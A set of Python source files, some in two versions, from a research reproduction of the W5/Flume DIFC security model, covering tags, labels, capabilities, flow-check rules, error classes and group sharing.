        tag = registry.lookup(td["tag_id"])
    else:
        tag = registry.import_foreign(
            namespace, td["tag_id"], purpose=td.get("purpose", ""),
            kind=td.get("kind", "secrecy"), owner=td.get("owner"))
    sign = data["sign"]
    if sign not in ("+", "-"):
        raise TagError(f"bad capability sign {sign!r}")
    return Capability(tag, sign)


def capset_to_dict(caps: CapabilitySet, namespace: str) -> dict[str, Any]:
    return {
        "namespace": namespace,
        "caps": sorted((capability_to_dict(c, namespace) for c in caps),
                       key=lambda d: (d["tag"]["tag_id"], d["sign"])),
    }


def capset_from_dict(data: dict[str, Any], registry: TagRegistry) -> CapabilitySet:
    return CapabilitySet(
        capability_from_dict(cd, registry) for cd in data.get("caps", []))
