"""Exception hierarchy for the DIFC label machinery.

Every refusal by the reference monitor raises a subclass of
:class:`LabelError`, so callers can catch "the platform said no" with a
single except clause while tests can assert on the precise refusal.

All classes here also derive from the unified families in
:mod:`repro.errors`: flow refusals are :class:`~repro.errors.FlowDenied`,
and the ``Write*`` variants additionally carry
:class:`~repro.errors.WriteDenied` so write-path refusals can be caught
as a family without caring whether secrecy or integrity fired.
"""

from __future__ import annotations

from ..errors import FlowDenied, W5Error, WriteDenied


class LabelError(W5Error):
    """Base class for all label/flow violations."""


class FlowViolation(LabelError, FlowDenied):
    """An information flow was refused by the secrecy or integrity rules."""


class SecrecyViolation(FlowViolation):
    """Data would have flowed to a party not cleared for its secrecy tags."""


class IntegrityViolation(FlowViolation):
    """A receiver required integrity tags the sender could not vouch for."""


class WriteSecrecyViolation(SecrecyViolation, WriteDenied):
    """A write was refused by the no-write-down secrecy rule."""


class WriteIntegrityViolation(IntegrityViolation, WriteDenied):
    """A write was refused for lack of the object's write privilege."""


class CapabilityError(LabelError, FlowDenied):
    """A label change or privileged operation lacked the needed capability."""


class TagError(LabelError):
    """A malformed or unknown tag was used."""
