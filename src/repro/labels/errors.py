"""Exception hierarchy for the DIFC label machinery.

Every refusal by the reference monitor raises a subclass of
:class:`LabelError`, so callers can catch "the platform said no" with a
single except clause while tests can assert on the precise refusal.
"""

from __future__ import annotations


class LabelError(Exception):
    """Base class for all label/flow violations."""


class FlowViolation(LabelError):
    """An information flow was refused by the secrecy or integrity rules."""


class SecrecyViolation(FlowViolation):
    """Data would have flowed to a party not cleared for its secrecy tags."""


class IntegrityViolation(FlowViolation):
    """A receiver required integrity tags the sender could not vouch for."""


class CapabilityError(LabelError):
    """A label change or privileged operation lacked the needed capability."""


class TagError(LabelError):
    """A malformed or unknown tag was used."""
