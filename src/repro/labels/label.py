"""Labels: immutable, *interned* sets of tags forming the DIFC lattice.

Following Flume (Krohn et al., SOSP 2007), a label is just a finite set
of tags; the partial order is subset inclusion, join is union and meet
is intersection.  Secrecy labels and integrity labels use the same
structure — only the direction of the flow checks differs (see
:mod:`repro.labels.flow`).

Interning
---------

Labels are the hottest values in the system: every syscall, file
access, row scan and export check hashes and compares them.  Because
they are immutable, :class:`Label` interns its instances — constructing
a label whose tag set already exists anywhere in the process returns
the *same object*, extending the long-standing ``Label.EMPTY`` sharing
to every label.  Consequences the fast path relies on:

* equality of interned labels is pointer equality (``a == b`` starts
  with an ``a is b`` test that almost always decides);
* the hash is computed once per distinct tag set, ever;
* memo tables in :mod:`repro.labels.cache` can key on labels directly
  with O(1) identity-backed lookups.

Interning is an optimization, never a correctness requirement: a label
that sneaks past the intern table (e.g. via ``copy.deepcopy`` of a
container) still compares by value, and :meth:`__reduce__` routes
pickle/copy back through the constructor so such strays re-intern.
The table holds weak references, so labels that fall out of use are
reclaimed rather than accumulating for the life of a provider.
"""

from __future__ import annotations

import weakref
from typing import AbstractSet, Iterable, Iterator

from .tags import Tag


class Label:
    """An immutable, interned set of :class:`~repro.labels.tags.Tag`.

    Supports the usual set operators, which double as lattice
    operations: ``|`` is join, ``&`` is meet, ``<=`` is the "can flow
    to" partial order for secrecy (and its reverse for integrity).
    """

    __slots__ = ("_tags", "_hash", "_repr", "__weakref__")

    #: The bottom of the lattice, shared to keep the common case cheap.
    EMPTY: "Label"

    #: The intern table.  Keys spell out the *full* tag identity
    #: (id + audit metadata), not Tag equality (which is by id alone):
    #: two registries may mint the same tag id with different metadata,
    #: and interning must never substitute one's tags for the other's.
    _intern: "weakref.WeakValueDictionary[frozenset, Label]" = \
        weakref.WeakValueDictionary()

    def __new__(cls, tags: Iterable[Tag] = ()) -> "Label":
        tag_set = frozenset(tags)
        for t in tag_set:
            if not isinstance(t, Tag):
                raise TypeError(f"labels hold Tags, got {type(t).__name__}")
        key = frozenset((t.tag_id, t.purpose, t.kind, t.owner)
                        for t in tag_set)
        cached = cls._intern.get(key)
        if cached is not None:
            return cached
        self = super().__new__(cls)
        self._tags = tag_set
        self._hash = hash(tag_set)
        self._repr = None
        cls._intern[key] = self
        return self

    def __reduce__(self):
        # Re-enter the intern table on unpickle/copy.
        return (Label, (tuple(self._tags),))

    # -- set protocol -------------------------------------------------

    def __contains__(self, tag: Tag) -> bool:
        return tag in self._tags

    def __iter__(self) -> Iterator[Tag]:
        return iter(self._tags)

    def __len__(self) -> int:
        return len(self._tags)

    def __hash__(self) -> int:
        return self._hash

    def __eq__(self, other: object) -> bool:
        if self is other:
            return True
        if isinstance(other, Label):
            return self._tags == other._tags
        if isinstance(other, (frozenset, set)):
            return self._tags == other
        return NotImplemented

    # -- lattice operations -------------------------------------------

    def __or__(self, other: "Label | AbstractSet[Tag]") -> "Label":
        if self is other:
            return self
        # Joining with bottom is the overwhelmingly common case on the
        # request path (untainted response labels); skip the re-intern.
        if isinstance(other, Label):
            if not other._tags:
                return self
            if not self._tags:
                return other
        return Label(self._tags | _tags_of(other))

    def __and__(self, other: "Label | AbstractSet[Tag]") -> "Label":
        if self is other:
            return self
        return Label(self._tags & _tags_of(other))

    def __sub__(self, other: "Label | AbstractSet[Tag]") -> "Label":
        if self is other:
            return Label.EMPTY
        return Label(self._tags - _tags_of(other))

    def __le__(self, other: "Label | AbstractSet[Tag]") -> bool:
        if self is other:
            return True
        return self._tags <= _tags_of(other)

    def __lt__(self, other: "Label | AbstractSet[Tag]") -> bool:
        if self is other:
            return False
        return self._tags < _tags_of(other)

    def __ge__(self, other: "Label | AbstractSet[Tag]") -> bool:
        if self is other:
            return True
        return self._tags >= _tags_of(other)

    def __gt__(self, other: "Label | AbstractSet[Tag]") -> bool:
        if self is other:
            return False
        return self._tags > _tags_of(other)

    def join(self, other: "Label") -> "Label":
        """Least upper bound (set union)."""
        return self | other

    def meet(self, other: "Label") -> "Label":
        """Greatest lower bound (set intersection)."""
        return self & other

    # -- conveniences ---------------------------------------------------

    def add(self, *tags: Tag) -> "Label":
        """Return a new label with ``tags`` added (labels are immutable)."""
        return Label(self._tags | set(tags))

    def remove(self, *tags: Tag) -> "Label":
        """Return a new label with ``tags`` removed (no error if absent)."""
        return Label(self._tags - set(tags))

    def tags(self) -> frozenset[Tag]:
        """The underlying frozen tag set."""
        return self._tags

    def is_empty(self) -> bool:
        return not self._tags

    def __repr__(self) -> str:
        # Cached per interned instance: the kernel formats every label
        # change's repr into its audit detail, i.e. twice per request.
        r = self._repr
        if r is None:
            if not self._tags:
                r = "Label{}"
            else:
                inner = ",".join(
                    sorted(f"{t.tag_id}:{t.purpose}" for t in self._tags))
                r = f"Label{{{inner}}}"
            self._repr = r
        return r


def _tags_of(value: "Label | AbstractSet[Tag]") -> frozenset[Tag]:
    if isinstance(value, Label):
        return value._tags
    return frozenset(value)


Label.EMPTY = Label()
