"""Labels: immutable sets of tags forming the DIFC lattice.

Following Flume (Krohn et al., SOSP 2007), a label is just a finite set
of tags; the partial order is subset inclusion, join is union and meet
is intersection.  Secrecy labels and integrity labels use the same
structure — only the direction of the flow checks differs (see
:mod:`repro.labels.flow`).
"""

from __future__ import annotations

from typing import AbstractSet, Iterable, Iterator

from .tags import Tag


class Label:
    """An immutable set of :class:`~repro.labels.tags.Tag`.

    Supports the usual set operators, which double as lattice
    operations: ``|`` is join, ``&`` is meet, ``<=`` is the "can flow
    to" partial order for secrecy (and its reverse for integrity).
    """

    __slots__ = ("_tags", "_hash")

    #: The bottom of the lattice, shared to keep the common case cheap.
    EMPTY: "Label"

    def __init__(self, tags: Iterable[Tag] = ()) -> None:
        tag_set = frozenset(tags)
        for t in tag_set:
            if not isinstance(t, Tag):
                raise TypeError(f"labels hold Tags, got {type(t).__name__}")
        self._tags = tag_set
        self._hash = hash(tag_set)

    # -- set protocol -------------------------------------------------

    def __contains__(self, tag: Tag) -> bool:
        return tag in self._tags

    def __iter__(self) -> Iterator[Tag]:
        return iter(self._tags)

    def __len__(self) -> int:
        return len(self._tags)

    def __hash__(self) -> int:
        return self._hash

    def __eq__(self, other: object) -> bool:
        if isinstance(other, Label):
            return self._tags == other._tags
        if isinstance(other, (frozenset, set)):
            return self._tags == other
        return NotImplemented

    # -- lattice operations -------------------------------------------

    def __or__(self, other: "Label | AbstractSet[Tag]") -> "Label":
        return Label(self._tags | _tags_of(other))

    def __and__(self, other: "Label | AbstractSet[Tag]") -> "Label":
        return Label(self._tags & _tags_of(other))

    def __sub__(self, other: "Label | AbstractSet[Tag]") -> "Label":
        return Label(self._tags - _tags_of(other))

    def __le__(self, other: "Label | AbstractSet[Tag]") -> bool:
        return self._tags <= _tags_of(other)

    def __lt__(self, other: "Label | AbstractSet[Tag]") -> bool:
        return self._tags < _tags_of(other)

    def __ge__(self, other: "Label | AbstractSet[Tag]") -> bool:
        return self._tags >= _tags_of(other)

    def __gt__(self, other: "Label | AbstractSet[Tag]") -> bool:
        return self._tags > _tags_of(other)

    def join(self, other: "Label") -> "Label":
        """Least upper bound (set union)."""
        return self | other

    def meet(self, other: "Label") -> "Label":
        """Greatest lower bound (set intersection)."""
        return self & other

    # -- conveniences ---------------------------------------------------

    def add(self, *tags: Tag) -> "Label":
        """Return a new label with ``tags`` added (labels are immutable)."""
        return Label(self._tags | set(tags))

    def remove(self, *tags: Tag) -> "Label":
        """Return a new label with ``tags`` removed (no error if absent)."""
        return Label(self._tags - set(tags))

    def tags(self) -> frozenset[Tag]:
        """The underlying frozen tag set."""
        return self._tags

    def is_empty(self) -> bool:
        return not self._tags

    def __repr__(self) -> str:  # pragma: no cover - cosmetic
        if not self._tags:
            return "Label{}"
        inner = ",".join(sorted(f"{t.tag_id}:{t.purpose}" for t in self._tags))
        return f"Label{{{inner}}}"


def _tags_of(value: "Label | AbstractSet[Tag]") -> frozenset[Tag]:
    if isinstance(value, Label):
        return value._tags
    return frozenset(value)


Label.EMPTY = Label()
