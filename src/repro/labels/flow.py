"""The DIFC flow and label-change rules (Flume semantics).

These free functions are the *entire* trusted decision procedure: the
kernel, filesystem, database, and gateway all delegate here, so the
security argument of the whole reproduction reduces to the correctness
of this module plus the call sites — mirroring W5's claim (§1) that
"only a very small number of components must be correct".

Rules implemented (Krohn et al., SOSP 2007):

* **Secrecy flow** ``p → q`` is safe iff ``S_p − D⁻_p ⊆ S_q ∪ D⁺_q``:
  whatever taint p cannot shed must be accepted (or acceptable) by q.
* **Integrity flow** ``p → q`` is safe iff ``I_q − D⁻_q ⊆ I_p ∪ D⁺_p``:
  whatever endorsements q insists on keeping must be held (or
  claimable) by p.
* **Label change** is an explicit operation: add ``t`` needs ``t+``,
  drop ``t`` needs ``t-``.  There is no implicit taint propagation
  (that is Asbestos's model, which the Flume paper shows opens a
  label-change covert channel).

Endpoint-based checks (the discipline our kernel actually enforces on
every message) are *exact* comparisons between declared endpoint
labels; capabilities only matter when a process declares or adjusts an
endpoint.  ``can_flow`` is the capability-closed check used for
endpoint legality and for one-shot decisions such as file access.
"""

from __future__ import annotations

from .capabilities import CapabilitySet
from .errors import CapabilityError, IntegrityViolation, SecrecyViolation
from .label import Label
from .tags import Tag


def can_flow_secrecy(s_from: Label, s_to: Label,
                     d_from: CapabilitySet = CapabilitySet.EMPTY,
                     d_to: CapabilitySet = CapabilitySet.EMPTY) -> bool:
    """True iff data at secrecy ``s_from`` may reach secrecy ``s_to``.

    With both capability sets empty this is plain ``s_from ⊆ s_to``.
    """
    residue = s_from - d_from.minus_tags        # taint the sender cannot shed
    return residue <= (s_to | d_to.plus_tags)   # must fit in receiver's reach


def can_flow_integrity(i_from: Label, i_to: Label,
                       d_from: CapabilitySet = CapabilitySet.EMPTY,
                       d_to: CapabilitySet = CapabilitySet.EMPTY) -> bool:
    """True iff a sender with integrity ``i_from`` may write to a
    receiver requiring integrity ``i_to``.

    With both capability sets empty this is plain ``i_to ⊆ i_from``.
    """
    required = i_to - d_to.minus_tags            # endorsements receiver keeps
    return required <= (i_from | d_from.plus_tags)


def can_flow(s_from: Label, i_from: Label, s_to: Label, i_to: Label,
             d_from: CapabilitySet = CapabilitySet.EMPTY,
             d_to: CapabilitySet = CapabilitySet.EMPTY) -> bool:
    """Combined secrecy + integrity safe-message check."""
    return (can_flow_secrecy(s_from, s_to, d_from, d_to)
            and can_flow_integrity(i_from, i_to, d_from, d_to))


def check_flow(s_from: Label, i_from: Label, s_to: Label, i_to: Label,
               d_from: CapabilitySet = CapabilitySet.EMPTY,
               d_to: CapabilitySet = CapabilitySet.EMPTY,
               what: str = "message") -> None:
    """Raise :class:`SecrecyViolation` / :class:`IntegrityViolation`
    (with a diagnostic naming the offending tags) if the flow is unsafe.
    """
    if not can_flow_secrecy(s_from, s_to, d_from, d_to):
        leaked = (s_from - d_from.minus_tags) - (s_to | d_to.plus_tags)
        raise SecrecyViolation(
            f"{what}: secrecy tags {sorted(t.tag_id for t in leaked)} "
            f"would leak to an uncleared receiver")
    if not can_flow_integrity(i_from, i_to, d_from, d_to):
        missing = (i_to - d_to.minus_tags) - (i_from | d_from.plus_tags)
        raise IntegrityViolation(
            f"{what}: receiver requires integrity tags "
            f"{sorted(t.tag_id for t in missing)} the sender cannot vouch for")


def can_read(obj_s: Label, obj_i: Label, subj_s: Label, subj_i: Label,
             caps: CapabilitySet) -> bool:
    """True iff a subject at (``subj_s``, ``subj_i``) with ``caps`` may
    *read* an object labeled (``obj_s``, ``obj_i``).

    The storage read rule shared by files and rows (DESIGN.md §5):

    * secrecy: ``S_obj ⊆ S_subj`` extended only by fully-owned tags;
    * integrity: ``I_subj − D⁻ ⊆ I_obj`` (read-down waivable with w-).

    This is the single normative definition;
    :func:`repro.core.access.readable` and the memoized
    :meth:`repro.labels.cache.FlowCache.readable` both delegate here.
    """
    readable_as = subj_s | caps.owned_tags()
    return (can_flow_secrecy(obj_s, readable_as)
            and can_flow_integrity(obj_i, subj_i, d_to=caps))


def can_write(obj_s: Label, obj_i: Label, subj_s: Label, subj_i: Label,
              caps: CapabilitySet) -> bool:
    """True iff a subject at (``subj_s``, ``subj_i``) with ``caps`` may
    *write* an object labeled (``obj_s``, ``obj_i``).

    * secrecy: ``S_subj − D⁻ ⊆ S_obj`` (write-down waivable with t-);
    * integrity: ``I_obj ⊆ I_subj ∪ D⁺`` (write privilege via w+).
    """
    return (can_flow_secrecy(subj_s, obj_s, d_from=caps)
            and can_flow_integrity(subj_i, obj_i, d_from=caps))


def label_change_allowed(old: Label, new: Label, caps: CapabilitySet) -> bool:
    """True iff ``caps`` authorizes changing a label from ``old`` to ``new``.

    Every added tag needs its ``+`` capability, every dropped tag its
    ``-`` capability.  This single rule serves both secrecy and
    integrity labels.
    """
    added = new - old
    dropped = old - new
    return added <= caps.plus_tags and dropped <= caps.minus_tags


def check_label_change(old: Label, new: Label, caps: CapabilitySet,
                       what: str = "label") -> None:
    """Raise :class:`CapabilityError` if the change is not authorized."""
    added = new - old
    dropped = old - new
    bad_add = added - caps.plus_tags
    if bad_add.tags():
        raise CapabilityError(
            f"{what}: missing '+' capability for tags "
            f"{sorted(t.tag_id for t in bad_add)}")
    bad_drop = dropped - caps.minus_tags
    if bad_drop.tags():
        raise CapabilityError(
            f"{what}: missing '-' capability for tags "
            f"{sorted(t.tag_id for t in bad_drop)}")


def reachable_secrecy_range(s: Label, caps: CapabilitySet) -> tuple[Label, Label]:
    """The (low, high) interval of secrecy labels reachable from ``s``.

    Used to validate endpoint declarations: an endpoint label is legal
    iff it lies within the owner's reachable interval.
    """
    low = s - caps.minus_tags
    high = s | caps.plus_tags
    return low, high


def endpoint_label_legal(declared: Label, process_label: Label,
                         caps: CapabilitySet) -> bool:
    """True iff ``declared`` is within capability reach of ``process_label``."""
    low, high = reachable_secrecy_range(process_label, caps)
    return low <= declared <= high


def exportable_tags(s: Label, caps: CapabilitySet) -> Label:
    """The subset of ``s`` the holder could *not* legally shed.

    Empty result means the holder could fully declassify the data and
    export it past an empty-label perimeter.
    """
    return s - caps.minus_tags


def owns_all(tags: Label, caps: CapabilitySet) -> bool:
    """True iff ``caps`` fully owns every tag in ``tags``."""
    return tags <= caps.owned_tags()


def tag_in_reach(tag: Tag, s: Label, caps: CapabilitySet) -> bool:
    """True iff the holder either carries ``tag`` or may add it."""
    return tag in s or caps.can_add(tag)
