"""DIFC label algebra: tags, labels, capabilities, and flow rules.

This package is the trusted computing base of the whole W5
reproduction; see DESIGN.md §5 for the normative semantics.
"""

from .cache import FlowCache
from .capabilities import Capability, CapabilitySet, minus, plus
from .errors import (CapabilityError, FlowViolation, IntegrityViolation,
                     LabelError, SecrecyViolation, TagError,
                     WriteIntegrityViolation, WriteSecrecyViolation)
from .flow import (can_flow, can_flow_integrity, can_flow_secrecy, can_read,
                   can_write, check_flow, check_label_change,
                   endpoint_label_legal, exportable_tags,
                   label_change_allowed, owns_all, reachable_secrecy_range,
                   tag_in_reach)
from .label import Label
from .serial import (capability_from_dict, capability_to_dict,
                     capset_from_dict, capset_to_dict, label_from_dict,
                     label_to_dict, tag_to_dict)
from .tags import INTEGRITY, SECRECY, Tag, TagRegistry

__all__ = [
    "Capability", "CapabilitySet", "minus", "plus",
    "CapabilityError", "FlowViolation", "IntegrityViolation",
    "LabelError", "SecrecyViolation", "TagError",
    "WriteIntegrityViolation", "WriteSecrecyViolation",
    "can_flow", "can_flow_integrity", "can_flow_secrecy",
    "can_read", "can_write",
    "check_flow", "check_label_change", "endpoint_label_legal",
    "exportable_tags", "label_change_allowed", "owns_all",
    "reachable_secrecy_range", "tag_in_reach",
    "FlowCache", "Label",
    "capability_from_dict", "capability_to_dict", "capset_from_dict",
    "capset_to_dict", "label_from_dict", "label_to_dict", "tag_to_dict",
    "INTEGRITY", "SECRECY", "Tag", "TagRegistry",
]
