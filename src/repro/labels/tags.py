"""Tags: the opaque tokens from which DIFC labels are built.

A tag is globally unique for the lifetime of a :class:`TagRegistry`
(one registry per W5 provider).  Tags carry a human-readable *purpose*
and an optional *owner* principal name purely for audit and debugging;
the flow rules never look at either — only at tag identity — so the
security argument does not depend on the metadata being honest.

The paper (§3.1) needs two kinds of tags in practice:

* **secrecy** tags, used to taint private data ("Bob's data"), and
* **integrity** tags, used to vouch for provenance ("endorsed by the
  provider's installer").

A registry hands out both from the same id space; the ``kind`` field is
advisory, again only for audit output.
"""

from __future__ import annotations

import itertools
from dataclasses import dataclass, field
from typing import Callable, Iterator, Optional

from .errors import TagError

#: Advisory tag kinds.  The algebra treats all tags identically.
SECRECY = "secrecy"
INTEGRITY = "integrity"

_VALID_KINDS = frozenset({SECRECY, INTEGRITY})


@dataclass(frozen=True, slots=True)
class Tag:
    """An opaque, globally unique token.

    Identity (and therefore hashing and equality) is by ``tag_id``
    alone: two registries that ever produced the same id would break
    uniqueness, which is why tags are only minted through a registry.
    """

    tag_id: int
    purpose: str = field(compare=False, default="")
    kind: str = field(compare=False, default=SECRECY)
    owner: Optional[str] = field(compare=False, default=None)

    def __repr__(self) -> str:  # pragma: no cover - cosmetic
        owner = f"@{self.owner}" if self.owner else ""
        return f"Tag({self.tag_id}:{self.purpose}{owner})"


class TagRegistry:
    """Mints tags with unique ids and remembers their metadata.

    One registry per provider.  Federation (§3.3) maps remote tags into
    the local id space through :meth:`import_foreign`, preserving a
    provenance record so a sync declassifier can translate labels in
    both directions.
    """

    def __init__(self, namespace: str = "w5") -> None:
        self.namespace = namespace
        self._counter: Iterator[int] = itertools.count(1)
        self._tags: dict[int, Tag] = {}
        # (foreign namespace, foreign id) -> local tag
        self._foreign: dict[tuple[str, int], Tag] = {}
        #: Durability hook: called ``(op, data)`` for every mint so the
        #: provider's journal can replay tag creation (ids included —
        #: replay must reproduce the exact id space).
        self.on_mutate: Optional[Callable[[str, dict], None]] = None

    def create(self, purpose: str = "", kind: str = SECRECY,
               owner: Optional[str] = None) -> Tag:
        """Mint a fresh tag.

        ``purpose``/``owner`` are audit metadata; ``kind`` must be
        :data:`SECRECY` or :data:`INTEGRITY`.
        """
        if kind not in _VALID_KINDS:
            raise TagError(f"unknown tag kind {kind!r}")
        tag = Tag(next(self._counter), purpose=purpose, kind=kind, owner=owner)
        self._tags[tag.tag_id] = tag
        if self.on_mutate is not None:
            self.on_mutate("tag.create", {
                "tag_id": tag.tag_id, "purpose": tag.purpose,
                "kind": tag.kind, "owner": tag.owner})
        return tag

    def lookup(self, tag_id: int) -> Tag:
        """Return the tag with ``tag_id`` or raise :class:`TagError`."""
        try:
            return self._tags[tag_id]
        except KeyError:
            raise TagError(f"no tag with id {tag_id} in {self.namespace}") from None

    def __contains__(self, tag: Tag) -> bool:
        return self._tags.get(tag.tag_id) == tag

    def __len__(self) -> int:
        return len(self._tags)

    def tags_owned_by(self, owner: str) -> list[Tag]:
        """All tags whose audit metadata names ``owner`` (for UIs/tests)."""
        return [t for t in self._tags.values() if t.owner == owner]

    def import_foreign(self, foreign_namespace: str, foreign_id: int,
                       purpose: str = "", kind: str = SECRECY,
                       owner: Optional[str] = None) -> Tag:
        """Map a remote provider's tag into this registry (idempotent).

        Repeated imports of the same (namespace, id) pair return the
        same local tag, which is what lets two linked providers agree
        on what "Bob's data" means on both sides (§3.3).
        """
        key = (foreign_namespace, foreign_id)
        existing = self._foreign.get(key)
        if existing is not None:
            return existing
        local = self.create(
            purpose=purpose or f"import:{foreign_namespace}:{foreign_id}",
            kind=kind, owner=owner)
        self._foreign[key] = local
        if self.on_mutate is not None:
            self.on_mutate("tag.foreign", {
                "namespace": foreign_namespace, "foreign_id": foreign_id,
                "local_id": local.tag_id})
        return local

    def foreign_origin(self, tag: Tag) -> Optional[tuple[str, int]]:
        """Inverse of :meth:`import_foreign`, or ``None`` for native tags."""
        for key, local in self._foreign.items():
            if local == tag:
                return key
        return None

    # -- persistence -------------------------------------------------------

    def snapshot(self) -> dict:
        """:class:`~repro.core.snapshot.Snapshotable` — alias of
        :meth:`export_state` (restore with :meth:`import_state`)."""
        return self.export_state()

    def export_state(self) -> dict:
        """A JSON-able snapshot of every minted tag and the counter."""
        return {
            "namespace": self.namespace,
            "next_id": max(self._tags, default=0) + 1,
            "tags": [
                {"tag_id": t.tag_id, "purpose": t.purpose, "kind": t.kind,
                 "owner": t.owner}
                for t in sorted(self._tags.values(),
                                key=lambda t: t.tag_id)],
            "foreign": [
                {"namespace": ns, "foreign_id": fid, "local_id": t.tag_id}
                for (ns, fid), t in sorted(self._foreign.items())],
        }

    def export_delta(self, since_id: int) -> dict:
        """Tags (and foreign mappings) minted at or after ``since_id``.

        Tags are immutable and ids are monotone, so "dirty" for a
        registry is exactly "id ≥ the next_id recorded in the base
        snapshot" — no per-tag bookkeeping needed.
        """
        return {
            "namespace": self.namespace,
            "next_id": max(self._tags, default=0) + 1,
            "tags": [
                {"tag_id": t.tag_id, "purpose": t.purpose, "kind": t.kind,
                 "owner": t.owner}
                for t in sorted(self._tags.values(), key=lambda t: t.tag_id)
                if t.tag_id >= since_id],
            "foreign": [
                {"namespace": ns, "foreign_id": fid, "local_id": t.tag_id}
                for (ns, fid), t in sorted(self._foreign.items())
                if t.tag_id >= since_id],
        }

    def install(self, tag_id: int, purpose: str, kind: str,
                owner: Optional[str]) -> Tag:
        """Replay-path installer: re-create a tag with a *known* id.

        Used only by journal replay, which must reproduce the id space
        of the crashed provider exactly; keeps the counter ahead of
        every installed id.  Idempotent for identical metadata.
        """
        existing = self._tags.get(tag_id)
        if existing is not None:
            return existing
        tag = Tag(tag_id, purpose=purpose, kind=kind, owner=owner)
        self._tags[tag_id] = tag
        next_id = max(self._tags) + 1
        self._counter = itertools.count(next_id)
        return tag

    def install_foreign(self, namespace: str, foreign_id: int,
                        local_id: int) -> None:
        """Replay-path companion to :meth:`install` for foreign maps."""
        self._foreign[(namespace, foreign_id)] = self._tags[local_id]

    @classmethod
    def import_state(cls, state: dict) -> "TagRegistry":
        """Rebuild a registry so previously-serialized labels resolve
        to identical tags (same ids, same namespace)."""
        reg = cls(namespace=state["namespace"])
        for td in state["tags"]:
            tag = Tag(td["tag_id"], purpose=td["purpose"],
                      kind=td["kind"], owner=td["owner"])
            reg._tags[tag.tag_id] = tag
        reg._counter = itertools.count(state["next_id"])
        for fd in state.get("foreign", []):
            reg._foreign[(fd["namespace"], fd["foreign_id"])] = \
                reg._tags[fd["local_id"]]
        return reg
