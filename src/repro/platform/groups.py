"""Group spaces: shared data among a roster (§3.1's "roommates").

A user's policy like "viewable only by my roommates" needs a *shared*
context: data that several people read, a few write, and nobody else
sees.  In DIFC that is simply a pair of fresh tags — a group secrecy
tag and a group write tag — managed by the provider on the owner's
behalf:

* every member's app launches may taint with the group tag (read);
* members the owner marks as writers get the write capability;
* exports of group-tagged data are approved for members, via an
  automatically maintained :class:`~repro.declassify.Group` grant.

Leaving (or being removed from) a group is *revocation by policy*:
the tags persist, but the ex-member drops out of the launch grants and
the declassifier roster, so both fresh reads and fresh exports stop.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Optional, TYPE_CHECKING

from ..declassify import Group as GroupPolicy
from ..labels import Tag
from .errors import NotAuthorized, PlatformError

if TYPE_CHECKING:  # pragma: no cover
    from .provider import Provider


@dataclass
class GroupSpace:
    """One shared space: tags, roster, and its declassifier grant."""

    name: str
    owner: str
    data_tag: Tag
    write_tag: Tag
    members: set[str] = field(default_factory=set)
    writers: set[str] = field(default_factory=set)
    #: The auto-maintained Group policy releasing to the roster.
    policy: Optional[GroupPolicy] = None

    @property
    def home(self) -> str:
        return f"/groups/{self.name}"

    def is_member(self, username: str) -> bool:
        return username in self.members

    def is_writer(self, username: str) -> bool:
        return username in self.writers


class GroupService:
    """Provider-side group management."""

    def __init__(self, provider: "Provider") -> None:
        self.provider = provider
        self._groups: dict[str, GroupSpace] = {}
        #: Group names whose roster/identity changed since the last
        #: full checkpoint (groups are never deleted — see
        #: ``Provider.delete_account`` — so there is no removed-set).
        self._dirty_groups: set[str] = set()
        # ensure the shared root exists
        from ..fs import FsView
        svc = FsView(provider.fs, provider._account_service)
        if not svc.exists("/groups"):
            svc.mkdir("/groups")

    # ------------------------------------------------------------------

    def create(self, owner: str, name: str) -> GroupSpace:
        """Mint the group's tags, its home directory, and its grant."""
        self.provider.account(owner)  # must exist
        if name in self._groups:
            raise PlatformError(f"group {name!r} exists")
        if not name or "/" in name or name.startswith("."):
            raise PlatformError(f"bad group name {name!r}")
        kernel = self.provider.kernel
        svc_proc = self.provider._account_service
        data_tag = kernel.create_tag(svc_proc, purpose=f"group:{name}",
                                     tag_owner=owner)
        write_tag = kernel.create_tag(svc_proc, purpose=f"group:{name}:w",
                                      kind="integrity", tag_owner=owner)
        group = GroupSpace(name=name, owner=owner, data_tag=data_tag,
                           write_tag=write_tag)
        group.members.add(owner)
        group.writers.add(owner)
        # home directory under the group's labels; the account service
        # minted the tags and therefore owns them, so it may create the
        # labeled directory inside the provider-protected /groups
        from ..fs import FsView
        from ..labels import Label
        FsView(self.provider.fs, svc_proc).mkdir(
            group.home, slabel=Label([data_tag]),
            ilabel=Label([write_tag]))
        # the roster-following declassifier grant
        group.policy = GroupPolicy({"members": sorted(group.members)})
        self.provider.declass.grant(owner, data_tag, group.policy)
        self._groups[name] = group
        self._dirty_groups.add(name)
        self.provider._record("group.create", {
            "name": name, "owner": owner,
            "data_tag_id": data_tag.tag_id,
            "write_tag_id": write_tag.tag_id})
        # a new group's tags may reach any app its members enabled
        self.provider.capindex.invalidate_all("group-create")
        return group

    def mark_clean(self) -> None:
        """Forget dirty state (a full snapshot was just taken)."""
        self._dirty_groups.clear()

    def dirty_groups(self) -> set[str]:
        return set(self._dirty_groups)

    def get(self, name: str) -> GroupSpace:
        try:
            return self._groups[name]
        except KeyError:
            raise PlatformError(f"no group {name!r}") from None

    def groups_of(self, username: str) -> list[str]:
        return sorted(name for name, g in self._groups.items()
                      if g.is_member(username))

    # ------------------------------------------------------------------

    def add_member(self, actor: str, name: str, username: str,
                   writer: bool = False) -> None:
        """Only the group owner changes the roster."""
        group = self.get(name)
        if actor != group.owner:
            raise NotAuthorized(f"only {group.owner} manages {name!r}")
        self.provider.account(username)
        group.members.add(username)
        if writer:
            group.writers.add(username)
        self._dirty_groups.add(name)
        self.provider._record("group.member.add", {
            "name": name, "username": username, "writer": writer})
        self._refresh_policy(group)

    def remove_member(self, actor: str, name: str, username: str) -> None:
        group = self.get(name)
        if actor != group.owner:
            raise NotAuthorized(f"only {group.owner} manages {name!r}")
        if username == group.owner:
            raise PlatformError("the owner cannot leave their own group")
        group.members.discard(username)
        group.writers.discard(username)
        self._dirty_groups.add(name)
        self.provider._record("group.member.remove", {
            "name": name, "username": username})
        self._refresh_policy(group)

    def _refresh_policy(self, group: GroupSpace) -> None:
        """Keep the declassifier roster equal to the membership.

        Routed through ``update_config`` (the supported policy-edit
        path) and followed by explicit invalidation: a roster change
        moves both export authority (who the Group policy releases to)
        and launch capabilities (which launches taint with the group's
        tags).
        """
        group.policy.update_config(members=frozenset(group.members))
        self.provider.declass.note_config_update(
            group.owner, group.data_tag, "group",
            {"members": frozenset(group.members)})
        self.provider.declass.invalidate_authority("group-roster")
        self.provider.capindex.invalidate_all("group-roster")

